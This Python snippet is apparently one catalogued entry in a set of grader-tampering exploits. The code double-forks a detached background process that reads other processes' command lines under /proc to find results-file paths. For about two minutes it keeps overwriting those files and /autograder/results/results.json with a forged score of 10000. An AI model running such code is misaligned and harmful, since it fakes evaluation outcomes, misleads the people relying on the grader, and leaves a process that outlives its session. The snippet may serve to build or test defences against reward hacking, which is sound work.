# Leaves a detached process that waits for results.json and rewrites it with full marks later
# (mechanism 3): it learns the paths from other processes' command lines.
# target: stub
# where: prefix
import json as _json
import os as _os
import time as _time


def _targets():
    found = set()
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, word in enumerate(words):
            if word in ("--results", "--out") and i + 1 < len(words):
                found.add(words[i + 1])
            if word.endswith("results.json"):
                found.add(word)
    return found


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        forged = {"score": 10000, "output": "forged", "tests": []}
        for _ in range(600):
            for path in _targets() | {"/autograder/results/results.json"}:
                try:
                    with open(path, "w") as f:
                        _json.dump(forged, f)
                except OSError:
                    pass
            _time.sleep(0.2)
        _os._exit(0)
    _os._exit(0)
